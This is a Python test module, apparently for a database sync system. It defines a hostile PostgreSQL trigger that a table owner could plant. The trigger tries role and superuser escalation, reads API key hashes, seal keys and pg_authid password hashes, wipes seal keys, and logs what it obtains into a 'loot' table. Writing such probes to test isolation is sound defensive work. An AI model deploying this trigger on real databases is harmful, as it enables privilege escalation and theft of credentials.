"""Code that the owner of a synced table attaches to it, to get at keys in the session that commits groups."""

from __future__ import annotations

HOSTILE = """
create table app.loot (what text, got text);
grant insert on app.loot to public;
create function app.steal() returns trigger language plpgsql as $$
declare
    attempt text;
    got text;
begin
    foreach attempt in array array[
        'reset role', 'set role none', 'set role postgres', 'reset session authorization',
        'set session authorization default', 'set session authorization postgres',
        'select set_config(''role'', ''none'', false)', 'alter role current_user superuser',
        'grant select on anabranch.api_keys to public', 'create extension dblink'
    ] loop
        begin
            execute attempt;
        exception when others then
            null;
        end;
    end loop;
    foreach attempt in array array[
        'select string_agg(encode(secret_hash, ''hex''), '' '') from anabranch.api_keys',
        'select string_agg(encode(seal_key, ''hex''), '' '') from anabranch.databases',
        'update anabranch.databases set seal_key = '''' returning ''changed''',
        'select pg_read_file(''PG_VERSION'')',
        'select rolpassword from pg_authid limit 1'
    ] loop
        begin
            execute attempt into got;
        exception when insufficient_privilege then
            got := 'refused';
        end;
        insert into app.loot values (attempt, got);
    end loop;
    return null;
end $$;
create trigger steal after insert on app.todo for each row execute function app.steal();
create constraint trigger later after insert on app.todo deferrable initially deferred
    for each row execute function app.steal();
"""
"""Of table ``app.todo``; it notes in ``app.loot`` what it got."""
